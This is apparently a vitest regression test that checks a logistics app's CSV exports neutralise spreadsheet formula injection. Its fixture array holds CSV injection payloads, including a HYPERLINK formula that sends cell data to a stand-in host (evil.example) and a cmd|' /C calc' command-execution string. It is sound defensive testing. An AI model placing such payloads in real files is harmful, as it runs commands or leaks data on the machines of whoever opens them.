/**
 * Defect 5 of issue 15: CSV formula injection. On d8320a6 route-sheets.csv and the export zip wrote
 * `=HYPERLINK(...)` and `@SUM(...)` cells as they were, to run in the spreadsheet of whoever opened them.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { safeCell, unsafeCell } from '../../src/io/csv.ts';
import { parseScenarioFiles, readScenarioFolder, serializeScenarioFiles } from '../../src/io/scenario-folder.ts';
import { routeSheetsCsv } from '../../src/planning/export.ts';
import type { PlanResult } from '../../src/planning/types.ts';
import { TINY_COUNTY } from './helpers.ts';

const EVIL = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '\tTAB',
  '\rCR',
];

describe('safeCell', () => {
  test('prefixes an apostrophe to every cell starting with = + - @ tab or CR', () => {
    for (const v of EVIL) expect(safeCell(v)).toBe(`'${v}`);
  });
  test('leaves plain numbers and ordinary text alone', () => {
    for (const v of ['-71.25', '+3', '-1e-7', '.5', '0', '东关村', 'a=b', 'V1', '']) expect(safeCell(v)).toBe(v);
  });
  test('unsafeCell inverts it for formula cells only', () => {
    for (const v of [...EVIL, "'quoted", "it's"]) expect(unsafeCell(safeCell(v))).toBe(v);
  });
});

/** Cells of a CSV text as a spreadsheet would see them (after CSV unquoting). */
const cellsOf = (text: string): string[] => (parse(text.replace(/^\ufeff/, '')) as string[][]).flat();
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

test('the scenario export neutralises every text cell and imports back unchanged', () => {
  const s = readScenarioFolder(TINY_COUNTY);
  const evil = {
    ...s,
    // names are trimmed on reading, so the tab / CR cases are checked by safeCell above
    places: s.places.map((p, i) => (i < 4 ? { ...p, name: EVIL[i] } : p)),
    carriers: s.carriers.map((c, i) => (i === 0 ? { ...c, name: '@SUM(A1:A9)' } : c)),
  };
  const files = serializeScenarioFiles(evil);
  for (const [name, content] of Object.entries(files)) {
    if (!name.endsWith('.csv')) continue;
    const formulas = cellsOf(String(content)).filter(isFormula);
    expect(formulas, name).toEqual([]);
  }
  expect(cellsOf(String(files['places.csv']))).toContain(`'${EVIL[0]}`);
  expect(parseScenarioFiles(files)).toEqual(evil);
});

test('route-sheets.csv neutralises station and township names', () => {
  const s = readScenarioFolder(TINY_COUNTY);
  const station = s.places.find((p) => p.kind === 'village' && p.hasStation)!;
  const evil = { ...s, places: s.places.map((p) => (p.id === station.id ? { ...p, name: EVIL[0] } : p)) };
  const plan = {
    routes: [
      {
        vehicle: '=cmd()',
        trip: 1,
        kind: 'delivery',
        stops: [
          {
            stationId: station.id,
            arrival: '08:10',
            departure: '08:20',
            parcelsDown: 3,
            parcelsUp: 0,
            load: 3,
            loadKg: 4.5,
          },
        ],
      },
    ],
  } as unknown as PlanResult;
  const cells = cellsOf(routeSheetsCsv(evil, plan));
  expect(cells.filter(isFormula)).toEqual([]);
  expect(cells).toContain(`'${EVIL[0]}`);
  expect(cells).toContain("'=cmd()");
});
